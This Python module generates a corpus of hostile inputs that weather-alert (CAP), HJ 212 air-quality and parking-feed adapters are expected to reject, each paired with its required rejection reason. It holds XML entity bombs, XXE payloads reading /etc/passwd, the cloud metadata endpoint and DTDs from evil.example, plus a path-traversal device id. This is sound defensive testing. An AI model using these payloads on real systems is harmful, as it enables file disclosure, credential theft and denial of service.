"""Hostile native messages, by adapter: XML bombs and external entities in CAP, broken HJ 212 frames,
broken parking feeds, and garbage every adapter must refuse (`any`). Read by make_corpus.py."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from adapters.hj212 import crc16

NativeCase = tuple[str, bytes, str]  # name, raw, words the NativeRejected reason must contain ("": any reason)
TEN_MB = 10 * 1024 * 1024

CAP = """<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>44070041600000_20250601080000</identifier>
  <sender>jiangmen.weather@gd.cma</sender>
  <sent>2025-06-01T08:00:00+08:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <language>zh-CN</language>
    <category>Met</category>
    <event>暴雨</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Likely</certainty>
    <senderName>江门市气象台</senderName>
    <headline>江门市气象台发布暴雨橙色预警信号</headline>
    <description>预计未来3小时蓬江区将出现50毫米以上降水，请注意防御。</description>
    <area>
      <areaDesc>蓬江区</areaDesc>
      <polygon>22.55,113.02 22.65,113.02 22.65,113.12 22.55,113.12 22.55,113.02</polygon>
      <geocode><valueName>ADCODE</valueName><value>440703</value></geocode>
    </area>
  </info>
</alert>
"""
DOCTYPE_AT = CAP.index("<alert")


def with_doctype(doctype: str, entity_use: str = "") -> bytes:
    text = CAP[:DOCTYPE_AT] + doctype + "\n" + CAP[DOCTYPE_AT:]
    return text.replace("<description>", "<description>" + entity_use).encode()


def cap_cases() -> Iterator[NativeCase]:
    laughs = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    yield "billion-laughs", with_doctype(f'<!DOCTYPE alert [<!ENTITY lol0 "lol">{laughs}]>', "&lol9;"), "unsafe XML"
    yield "quadratic-blowup", with_doctype(f'<!DOCTYPE alert [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 5000), \
        "unsafe XML"
    yield "xxe-file", with_doctype('<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"), "unsafe XML"
    yield "xxe-http", with_doctype('<!DOCTYPE alert [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]>', "&x;"), \
        "unsafe XML"
    yield "xxe-parameter-entity", with_doctype(
        '<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), "unsafe XML"
    yield "external-dtd", with_doctype('<!DOCTYPE alert SYSTEM "http://evil.example/cap.dtd">'), "unsafe XML"
    yield "internal-entity", with_doctype('<!DOCTYPE alert [<!ENTITY v "暴雨">]>', "&v;"), "unsafe XML"
    yield "xxe-utf16", with_doctype('<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;").decode() \
        .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), "unsafe XML"
    raw = CAP.encode()
    for cut in (10, 60, 200, 500, len(raw) - 20):
        yield f"truncated-at-{cut}", raw[:cut], "not well-formed XML"
    yield "empty", b"", "not well-formed XML"
    yield "not-xml", b"alert: rainstorm", "not well-formed XML"
    yield "invalid-utf8", raw.replace("暴雨".encode(), b"\xff\xfe"), "not well-formed XML"
    yield "gbk-declared-utf8", raw.replace("暴雨".encode(), "暴雨".encode("gbk")), "not well-formed XML"
    yield "two-roots", raw + b"<alert/>", "not well-formed XML"
    yield "wrong-root", b"<feed><alert/></feed>", "not a CAP alert"
    yield "html", b"<html><body>warning</body></html>", "not a CAP alert"
    yield "nested-10000", b"<alert>" + b"<x>" * 10_000 + b"</x>" * 10_000 + b"</alert>", "CAP <alert> without"
    yield "oversize-600k", CAP.replace("<description>", "<description>" + "雨" * 200_000).encode(), "CAP document of"
    yield "oversize-10mb", CAP.replace("<description>", "<description>" + "x" * TEN_MB).encode(), "CAP document of"
    yield "no-identifier", CAP.replace("<identifier>44070041600000_20250601080000</identifier>", "").encode(), \
        "CAP <alert> without <identifier>"
    yield "no-info", CAP[:CAP.index("<info>")].encode() + b"</alert>", "CAP alert without <info>"
    area = CAP[CAP.index("<area>"):CAP.index("</area>") + len("</area>")]
    yield "no-area", CAP.replace(area, "").encode(), "CAP info without <area>"
    yield "bad-sent-time", CAP.replace("2025-06-01T08:00:00+08:00", "昨天早上").encode(), "time"
    polygon = "22.55,113.02 22.65,113.02 22.65,113.12 22.55,113.12 22.55,113.02"
    for name, bad in [("lat-200", "200,113.02 22.65,113.02 22.65,113.12"), ("nan", "nan,nan 22.6,113.1 nan,nan"),
                      ("infinity", "inf,113.02 22.6,113.1 22.5,113.0"), ("words", "north south east"),
                      ("lon-only", "113.02 113.12 113.2")]:
        yield f"polygon-{name}", CAP.replace(polygon, bad).encode(), "CAP"


def hj212_frame(segment: str, crc: int | None = None) -> bytes:
    body = segment.encode("utf-8")
    return b"##" + f"{len(body):04d}".encode() + body + f"{crc16(body) if crc is None else crc:04X}".encode() + b"\r\n"


AIR = ("QN=20250601080000000;ST=22;CN=2011;PW=123456;MN=JMAQ0001;Flag=5;CP=&&DataTime=20250601080000;"
       "a34004-Rtd=35.2,a34004-Flag=N;a34002-Rtd=60.1,a34002-Flag=N;a21026-Rtd=8.0,a21026-Flag=N&&")


def hj212_cases() -> Iterator[NativeCase]:
    good = hj212_frame(AIR)
    yield "bad-crc", hj212_frame(AIR, crc16(AIR.encode()) ^ 0x0101), "HJ 212 bad CRC"
    yield "crc-zero", hj212_frame(AIR, 0), "HJ 212 bad CRC"
    yield "crc-not-hex", good[:-6] + b"ZZZZ\r\n", "HJ 212 CRC field"
    yield "crc-missing", good[:-6] + b"\r\n", "HJ 212 length"
    yield "one-byte-flipped", good.replace(b"35.2", b"95.2"), "HJ 212 bad CRC"
    length = f"{len(AIR):04d}".encode()
    yield "length-too-long", good.replace(length, f"{len(AIR) + 7:04d}".encode(), 1), "HJ 212 length"
    yield "length-too-short", good.replace(length, f"{len(AIR) - 7:04d}".encode(), 1), "HJ 212 length"
    yield "length-not-digits", good.replace(length, b"01a4", 1), "HJ 212 length field"
    yield "length-negative", good.replace(length, b"-100", 1), "HJ 212 length field"
    yield "length-9999", good.replace(length, b"9999", 1), "HJ 212 length"
    for cut in (3, 8, 40, len(good) // 2, len(good) - 5):
        yield f"truncated-at-{cut}", good[:cut], "HJ 212" if cut >= 10 else "not an HJ 212 frame"
    yield "no-header", good[2:], "not an HJ 212 frame"
    yield "empty", b"", "not an HJ 212 frame"
    yield "oversize-frame", hj212_frame(AIR.replace("CP=&&", "CP=&&" + "x=1;" * 5000)), "HJ 212 frame of"
    yield "oversize-10mb", b"##" + b"9" * TEN_MB, "HJ 212 frame of"
    yield "no-cp", hj212_frame(AIR.split("CP=")[0]), "HJ 212 data segment has no CP"
    yield "no-mn", hj212_frame(AIR.replace("MN=JMAQ0001;", "")), "HJ 212 data segment without MN"
    yield "mn-injection", hj212_frame(AIR.replace("JMAQ0001", "JMAQ/../0001")), "device id"
    yield "not-ascii", hj212_frame(AIR.replace("PW=123456", "PW=江门")), "HJ 212 data segment is not ASCII"
    yield "item-without-equals", hj212_frame(AIR.replace("a34004-Flag=N", "a34004-Flag")), "HJ 212 item"
    yield "bad-datatime", hj212_frame(AIR.replace("DataTime=20250601080000", "DataTime=20251301250000")), "time"
    yield "no-datatime", hj212_frame(AIR.replace("DataTime=20250601080000;", "")), "HJ 212 CN=2011 data upload"
    for name, value in [("nan", "NaN"), ("infinity", "1e999"), ("words", "abc"), ("huge", "1e12")]:
        yield f"value-{name}", hj212_frame(AIR.replace("35.2", value)), "HJ 212 a34004"
    yield "wrong-system", hj212_frame(AIR.replace("ST=22", "ST=32")), "HJ 212 ST=32 is not an air-quality"
    no_known = AIR.split("CP=&&")[0] + "CP=&&DataTime=20250601080000;w01018-Rtd=5.0,w01018-Flag=N&&"
    yield "no-known-pollutant", hj212_frame(no_known), "HJ 212 air-quality upload without"


def parking_feed(**park: object) -> bytes:
    entry = {"parkId": "JM-PK-0001", "parkName": "江门市民广场停车场", "totalSpace": 200, "freeSpace": 37,
             "lng": 113.081, "lat": 22.579, "coordType": "GCJ02", "updateTime": "2025-06-01 08:00:00", **park}
    return json.dumps({"code": 0, "msg": "ok", "parks": [{k: v for k, v in entry.items() if v is not None}]},
                      ensure_ascii=False).encode()


def parking_cases() -> Iterator[NativeCase]:
    yield "not-json", b"{parks: []", "not JSON"
    yield "nested-10000", b"[" * 10_000 + b"]" * 10_000, "not JSON"
    yield "no-parks", b'{"code": 0}', "no 'parks' list"
    yield "parks-not-list", b'{"code": 0, "parks": {"a": 1}}', "no 'parks' list"
    yield "error-code", b'{"code": 500, "msg": "db down", "parks": []}', "feed reports error code 500"
    yield "park-not-object", b'{"code": 0, "parks": ["JM-PK-0001"]}', "a park entry is not an object"
    yield "free-over-total", parking_feed(freeSpace=900), "freeSpace 900"
    yield "free-negative", parking_feed(freeSpace=-3), "freeSpace"
    yield "no-park-id", parking_feed(parkId=None), "parkId"
    yield "total-words", parking_feed(totalSpace="很多"), "JM-PK-0001"
    yield "bad-update-time", parking_feed(updateTime="2025/06/01"), "2025/06/01"
    yield "unknown-coord-type", parking_feed(coordType="MARS"), "MARS"
    yield "oversize-10mb", parking_feed(parkName="x" * TEN_MB), ""


def garbage_cases() -> Iterator[NativeCase]:
    """What no adapter may turn into an event, nor crash on: it refuses, or finds nothing to map."""
    rng = random.Random(2021)
    for seed in range(4):
        yield f"random-bytes-{seed}", bytes(rng.randrange(256) for _ in range(64 << seed)), ""
    yield "invalid-utf8", b"\xff\xfe\xc0\xaf\xed\xa0\x80", ""
    yield "nul-bytes", b"\x00" * 1024, ""
    yield "nested-10000-json", b"[" * 10_000 + b"]" * 10_000, ""
    yield "nested-10000-xml", b"<a>" * 10_000 + b"</a>" * 10_000, ""
    yield "nan-json", b'{"value": NaN, "lon": Infinity}', ""
    yield "billion-laughs", with_doctype('<!DOCTYPE alert [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>', "&b;"), ""
    yield "oversize-10mb-x", b"x" * TEN_MB, ""
    yield "oversize-10mb-lines", b"a,b,c\n" * (TEN_MB // 6), ""


def all_cases() -> dict[str, list[NativeCase]]:
    return {"weather-cap": list(cap_cases()), "env-air": list(hj212_cases()),
            "parking-lots": list(parking_cases()), "any": list(garbage_cases())}
